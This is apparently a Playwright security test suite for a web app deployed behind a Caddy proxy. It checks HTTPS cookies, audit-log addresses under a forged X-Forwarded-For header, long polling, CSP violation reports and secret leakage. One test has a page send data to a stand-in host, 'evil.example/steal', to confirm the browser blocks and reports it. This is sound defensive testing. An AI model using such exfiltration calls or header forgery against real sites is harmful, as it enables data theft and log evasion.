import { chromium, expect, request as requests } from '@playwright/test';
import { spawnSync } from 'node:child_process';
import { once } from 'node:events';
import type { IncomingMessage } from 'node:http';
import { request, type RequestOptions } from 'node:https';
import { text } from 'node:stream/consumers';
import { Client } from 'pg';
import { HANG_MS } from '@/lib/kit/poll';
import { PASSWORD } from '@/lib/kit/server/server';
import { browserOptions } from '../../support/browser/browser-options';
import { findPostgresql } from '../../support/databases/find-postgresql';
import { withAllRights } from '../../support/databases/postgresql-environment';
import { PlayedCompose } from '../../support/deployment/played-compose';
import { test } from '../fixtures/test';
import { openSession } from '../flows/open-session';
import { requestActivation } from '../flows/request-activation';

const JANE = { userId: 'jane.doe', password: PASSWORD };

/** Another address of this machine than the proxy's. */
const CLIENT = '127.0.0.7';

const programs = findPostgresql();
const hasCaddy = spawnSync('caddy', ['version']).status === 0;

test.describe('the services of the compose file, as processes', () => {
  test.skip(programs === null || !hasCaddy, 'PostgreSQL and Caddy are not both on this machine');

  let compose: PlayedCompose;

  test.beforeAll(async () => {
    test.setTimeout(2 * HANG_MS);
    compose = await PlayedCompose.start(programs ?? '', { TESSERA_DEMO_PASSWORD: PASSWORD });
  });

  test.afterAll(() => compose?.stop());

  /** Asks as another client, who trusts Caddy's authority and nobody else. */
  async function ask(path: string, options: RequestOptions = {}, body = '') {
    const sent = request(new URL(path, compose.url), { ca: compose.authority, localAddress: CLIENT, ...options });
    sent.end(body);
    const [answer] = (await once(sent, 'response')) as [IncomingMessage];
    return { status: answer.statusCode, headers: answer.headers, body: await text(answer) };
  }

  test('the sign-in page comes by https, with cookies that browsers send nowhere else', async () => {
    const page = await ask('/sign-in');
    expect(page.status).toBe(200);
    expect(page.headers['strict-transport-security']).toContain('max-age');
    const { headers } = await ask('/api/auth/csrf');
    expect(headers['set-cookie']?.join()).toMatch(/^__Host-[^;]+;.*Secure/);
  });

  test('threat: a forged X-Forwarded-For — the audit log has the address that the proxy saw', async () => {
    const { headers, body } = await ask('/api/auth/csrf');
    const { csrfToken } = JSON.parse(body) as { csrfToken: string };
    const form = new URLSearchParams({ csrfToken, json: 'true', userId: JANE.userId, password: 'not hers at all' });
    const forged = {
      'x-forwarded-for': '203.0.113.9',
      'content-type': 'application/x-www-form-urlencoded',
      cookie: headers['set-cookie']?.map((cookie) => cookie.split(';')[0]).join('; '),
      origin: compose.url,
    };
    await ask('/api/auth/callback/credentials', { method: 'POST', headers: forged }, form.toString());
    const client = new Client({
      connectionString: withAllRights(compose.database.url, compose.database.url.replace(/\/postgres$/, '/tessera')),
    });
    await client.connect();
    const { rows } = await client.query('SELECT DISTINCT address FROM audit_record WHERE subject_user_id = $1', [
      JANE.userId,
    ]);
    await client.end();
    expect(rows).toContainEqual({ address: CLIENT });
    expect(JSON.stringify(rows)).not.toContain('203.0.113.9');
  });

  test('a long poll is held through the proxy until the site answers', async () => {
    test.setTimeout(2 * HANG_MS);
    const visitor = { request: await requests.newContext({ baseURL: compose.url, ignoreHTTPSErrors: true }) };
    await openSession(visitor, JANE);
    const { id } = await requestActivation(visitor);
    const now = await visitor.request.get(`/api/activations/${id}/status?after=-1`);
    const { version } = (await now.json()) as { version: number };
    const startedAt = performance.now();
    const held = await visitor.request.get(`/api/activations/${id}/status?after=${version}`, { timeout: HANG_MS });
    expect(held.status()).toBe(200);
    expect(performance.now() - startedAt).toBeGreaterThan(20_000);
    await visitor.request.dispose();
  });

  test('what the policy of a page refuses is reported over https, by the browser’s own endpoint', async () => {
    const { args = [], ...options } = browserOptions();
    // Reports are sent without the page, and otherwise gathered for a minute.
    const flags = ['--ignore-certificate-errors', '--short-reporting-delay'];
    const browser = await chromium.launch({ ...options, args: [...args, ...flags] });
    try {
      const page = await browser.newPage({ ignoreHTTPSErrors: true });
      const answer = await page.goto(`${compose.url}/sign-in`);
      expect(await answer?.headerValue('reporting-endpoints')).toBe('policy="/api/policy-reports"');
      await page.evaluate(() => fetch('https://evil.example/steal?what=secret').catch(() => null));
      await expect
        .poll(() => compose.output)
        .toMatch(/"directive":"connect-src","blocked":"evil\.example","page":"\/sign-in"/);
    } finally {
      await browser.close();
    }
  });

  test('threat: a password that leaks — no secret of the files is in what the programs say', async () => {
    const password = /tessera:(\w{48})@/.exec(compose.secret('database-url'))?.[1] ?? '';
    expect(password).toHaveLength(48);
    expect(compose.output).not.toContain(password);
    expect(compose.output).not.toContain(compose.secret('session-secret'));
  });
});
